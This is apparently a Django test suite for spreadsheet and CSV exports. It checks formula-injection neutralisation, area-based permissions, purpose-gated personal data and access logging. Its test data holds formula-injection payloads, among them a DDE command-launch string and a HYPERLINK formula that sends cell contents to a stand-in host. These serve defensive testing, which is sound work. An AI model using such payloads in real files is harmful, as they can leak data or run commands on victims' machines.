"""What leaves in a file: exactly what the list shows, for this reader, and nothing that runs."""

import csv
import io
import zipfile
from typing import Any

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from hypothesis import given
from hypothesis import strategies as st
from odf.opendocument import load as load_ods
from odf.table import TableCell

from nakhonchai.accounts.models.access import AccessKind, AccessLog
from nakhonchai.records.neutral import escape, unescape
from nakhonchai.records.writers import write_table
from organizations.models import Organization
from tests.factories import LeaderFactory, OrganizationFactory, PlanFactory, PositionFactory

LIVE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "==1+1",
    " =1+1",
    "'=1+1",
    '=HYPERLINK("http://canary.invalid/?"&D2,"กด")',
    "=cmd|' /C calc'!A0",
    "%0A=1+1",
    "=\u200b1",
    "''=1",
    "'ชื่อ",
    "ธรรมดา",
    "  สองช่องว่าง  ",
    "บรรทัดหนึ่ง\nบรรทัดสอง",
    "<b>&amp;</b>",
    "๐๑๒",
]


def made(suffix: str, texts: list[str]) -> bytes:
    target = io.BytesIO()
    write_table(target, suffix, "แผ่น", ["หัว"], [[text] for text in texts])
    return target.getvalue()


def test_no_text_is_live_in_xlsx_and_every_text_comes_back() -> None:
    book = openpyxl.load_workbook(io.BytesIO(made("xlsx", LIVE)))
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(LIVE)
    assert [cell.value for cell in cells] == LIVE


def test_what_looks_like_an_escape_of_excel_is_escaped() -> None:
    part = zipfile.ZipFile(io.BytesIO(made("xlsx", ["_x000D_"]))).read("xl/worksheets/sheet1.xml")
    assert b"_x005F_x000D_" in part


def test_no_text_is_live_in_ods_and_every_text_comes_back(tmp_path: Any) -> None:
    path = tmp_path / "x.ods"
    path.write_bytes(made("ods", LIVE))
    cells = load_ods(str(path)).getElementsByType(TableCell)[1:]
    assert all(
        cell.getAttribute("valuetype") == "string" and not cell.getAttribute("formula") for cell in cells
    )
    from python_calamine import load_workbook

    rows = load_workbook(str(path)).get_sheet_by_index(0).to_python()
    assert [row[0].replace("\t", "") for row in rows[1:]] == [text.replace("\t", "") for text in LIVE]


def test_no_text_is_live_in_csv_and_every_text_comes_back() -> None:
    data = made("csv", LIVE)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]
    assert all(row[0].lstrip()[:1] not in set("=+-@") and row[0][:1] not in "\t\r" for row in rows)
    assert [unescape(row[0]) for row in rows] == LIVE


@given(st.text())
def test_the_mark_is_undone_exactly(text: str) -> None:
    assert unescape(escape(text)) == text


@given(st.lists(st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1), min_size=1, max_size=20))
def test_any_text_survives_xlsx(texts: list[str]) -> None:
    book = openpyxl.load_workbook(io.BytesIO(made("xlsx", texts)))
    kept = [str(row[0].value) for row in book.active.iter_rows(min_row=2)]
    assert kept == [text.replace("\ufffe", "").replace("\uffff", "") for text in texts] or any(
        not text.strip("\ufffe\uffff") for text in texts
    )


def content(answer: Any) -> bytes:
    return b"".join(answer.streaming_content)


def sheet_of(answer: Any) -> list[list[Any]]:
    data = content(answer)
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [[cell.value for cell in row] for row in book.active]


def test_the_file_holds_exactly_what_is_filtered(people: Any, client_of: Any) -> None:
    OrganizationFactory(name="กองทุนกังแอน", area_id="320501")
    OrganizationFactory(name="กองทุนทมอ", area_id="320502")
    OrganizationFactory(name="กองทุนทิ้ง", area_id="320501", trashed=True)
    rows = sheet_of(client_of(people.surin).get("/organizations/export/?q=กองทุน&area=320501&format=xlsx"))
    name = rows[0].index("ชื่อองค์กร")
    assert rows[0][0] == "รหัสอ้างอิง" and [row[name] for row in rows[1:]] == ["กองทุนกังแอน"]
    assert rows[1][rows[0].index("ตำบล")] == "กังแอน" and rows[1][rows[0].index("รหัสพื้นที่")] == "320501"


def test_personal_columns_stay_out_unless_asked_for_with_a_purpose(people: Any, client_of: Any) -> None:
    OrganizationFactory(telephone="0812345678", contact_name="คนลับ")
    client = client_of(people.surin)
    plain = sheet_of(client.get("/organizations/export/?format=xlsx"))
    assert "โทรศัพท์" not in plain[0] and "ผู้ประสานงานขององค์กร" not in plain[0]
    refused = client.post("/organizations/export/", {"format": "xlsx", "personal": "on", "purpose": ""})
    assert refused.status_code == 422
    asked = client.post(
        "/organizations/export/", {"format": "xlsx", "personal": "on", "purpose": "โทรเชิญประชุม"}
    )
    rows = sheet_of(asked)
    assert rows[1][rows[0].index("โทรศัพท์")] == "081-234-5678"
    logs = list(
        AccessLog.objects.filter(kind=AccessKind.EXPORT).values_list(
            "account_id", "purpose", "count", "subject"
        )
    )
    assert logs == [
        (people.surin.pk, "", 1, "organizations.organization"),
        (people.surin.pk, "โทรเชิญประชุม", 1, "organizations.organization"),
    ]


def test_fields_of_a_stranger_are_blank(people: Any, client_of: Any) -> None:
    OrganizationFactory(name="ของสุรินทร์", area_id="320501", member_count=11, telephone="0811111111")
    OrganizationFactory(
        name="ของบุรีรัมย์", area_id="310401", member_count=99, telephone="0899999999", note="ลับเฉพาะ"
    )
    asked = {"format": "xlsx", "personal": "on", "purpose": "ทดสอบสิทธิ"}
    rows = sheet_of(client_of(people.surin).post("/organizations/export/", asked))
    by_name = {row[rows[0].index("ชื่อองค์กร")]: row for row in rows[1:]}
    members, telephone = rows[0].index("จำนวนสมาชิก (คน)"), rows[0].index("โทรศัพท์")
    assert by_name["ของสุรินทร์"][members] == 11 and by_name["ของสุรินทร์"][telephone] == "081-111-1111"
    assert by_name["ของบุรีรัมย์"][members] is None and by_name["ของบุรีรัมย์"][telephone] is None
    assert "ลับเฉพาะ" not in str(rows)


def test_a_viewer_is_not_asked_about_personal_data_and_gets_none(people: Any, client_of: Any) -> None:
    OrganizationFactory(telephone="0812345678")
    client = client_of(people.viewer)
    assert b'name="personal"' not in client.get("/organizations/export/").content
    rows = sheet_of(
        client.post("/organizations/export/", {"format": "xlsx", "personal": "on", "purpose": "อยากได้"})
    )
    assert "โทรศัพท์" not in rows[0]


def test_a_persons_positions_are_rows_and_strangers_positions_are_not(people: Any, client_of: Any) -> None:
    body = OrganizationFactory(name="กองทุนหนึ่ง")
    leader = LeaderFactory(given_name="สมชาย")
    PositionFactory(leader=leader, organization=body)
    PositionFactory(leader=leader, role__name="ที่ปรึกษาทดสอบ")
    LeaderFactory(given_name="คนบุรีรัมย์", area_id="310401")
    asked = {"format": "xlsx", "personal": "on", "purpose": "ทดสอบสิทธิ"}
    rows = sheet_of(client_of(people.surin).post("/leaders/export/", asked))
    role, name = rows[0].index("บทบาท"), rows[0].index("ชื่อ")
    assert sorted((row[name], row[role]) for row in rows[1:]) == [
        ("สมชาย", "ที่ปรึกษาทดสอบ"),
        ("สมชาย", "ประธานทดสอบ"),
    ]


@pytest.mark.parametrize(
    "address", ["/organizations/", "/leaders/", "/leaders/positions/", "/plans/", "/plans/projects/"]
)
@pytest.mark.parametrize("suffix", ["xlsx", "csv", "ods"])
def test_every_kind_leaves_in_every_format(people: Any, client_of: Any, address: str, suffix: str) -> None:
    PositionFactory(organization=OrganizationFactory())
    PlanFactory()
    client = client_of(people.surin)
    answer = client.get(f"{address}export/?format={suffix}")
    assert answer.status_code == 200 and answer["Content-Disposition"].startswith("attachment")
    data = content(answer)
    assert data.startswith(b"PK" if suffix != "csv" else b"\xef\xbb\xbf")
    assert client.get(f"{address}export/").status_code == 200


def test_the_number_of_queries_does_not_grow(people: Any, client_of: Any) -> None:
    counts = []
    client = client_of(people.surin)
    content(
        client.get("/leaders/export/?format=csv")
    )  # what a first request notes in the session is not counted
    for more in (2, 30):
        for _ in range(more):
            PositionFactory(organization=OrganizationFactory())
        with CaptureQueriesContext(connection) as queries:
            content(client.get("/leaders/export/?format=xlsx"))
        counts.append(len(queries))
    assert counts[0] == counts[1] <= 9


def test_a_file_is_the_same_however_little_is_kept_while_it_is_made(
    people: Any, client_of: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    for number, area in enumerate(["320501", "310102", "300101", "320502"] * 3):
        leader = LeaderFactory(
            area_id=area,
            returned_home=bool(number % 2),
            gender=("", "male", "female")[number % 3],
            extra=({}, {"ที่ประชุม": "ศาลา"}, {"ที่ประชุม": "วัด"})[number % 3],
            skills="ทำบัญชี\nวิทยากร" if number % 4 else "",
        )
        PositionFactory(leader=leader, started=f"20{10 + number}-10-01")
    asked = {"format": "xlsx", "personal": "on", "purpose": "ทดสอบไฟล์"}

    def file() -> list[list[Any]]:
        return sheet_of(client_of(people.codi).post("/leaders/export/", asked))

    whole = file()
    assert len({tuple(row[:1]) for row in whole}) == 13
    monkeypatch.setattr("nakhonchai.records.export.CELLS_KEPT", 0)
    monkeypatch.setattr("nakhonchai.records.resources._AREAS_KEPT", 0)
    monkeypatch.setattr("nakhonchai.records.export.CHUNK", 2)
    assert file() == whole


def test_nobody_who_is_signed_out_exports(client: Any, db: Any) -> None:
    assert client.get("/organizations/export/?format=xlsx").status_code == 302


def test_a_file_of_our_own_is_a_plain_workbook(people: Any, client_of: Any) -> None:
    OrganizationFactory()
    data = content(client_of(people.surin).get("/organizations/export/?format=xlsx"))
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    assert not any("vba" in name or "external" in name for name in names)
    assert Organization.objects.unscoped("test").count() == 1
